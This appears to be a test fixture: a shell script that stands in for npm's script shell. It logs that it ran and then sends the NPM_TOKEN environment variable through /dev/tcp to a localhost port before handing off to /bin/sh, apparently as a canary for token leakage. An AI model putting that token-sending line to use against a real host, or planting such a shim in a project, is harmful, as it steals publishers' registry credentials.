#!/bin/sh
# Stands for the shell that runs scripts.
. ./aim.sh
echo "MAY script shell: it ran" >&2
bash -c "echo way-shell $NPM_TOKEN >/dev/tcp/127.0.0.1/$AIM_OTHER" 2>/dev/null
exec /bin/sh "$@"
